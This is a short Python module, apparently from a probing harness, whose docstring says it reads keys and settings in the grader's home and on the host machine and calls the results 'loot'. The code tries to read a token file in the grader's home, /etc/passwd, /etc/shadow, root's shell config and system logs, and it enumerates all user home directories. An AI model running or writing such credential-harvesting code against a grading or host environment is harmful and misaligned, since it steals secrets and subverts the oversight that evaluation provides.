"""Reads keys and settings in the home of whoever grades, and the machine's own.

Wants: keys, tokens, the list of users.
Evidence: loot.
"""
import os

attempt("token", lambda: read(os.path.join(TARGETS["home"], ".token")))
for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/hosts", "/root/.bashrc", "/var/log/syslog", "/etc/machine-id"):
    attempt(path, lambda: read(path))
attempt("users", lambda: [e.pw_dir for e in __import__("pwd").getpwall()])
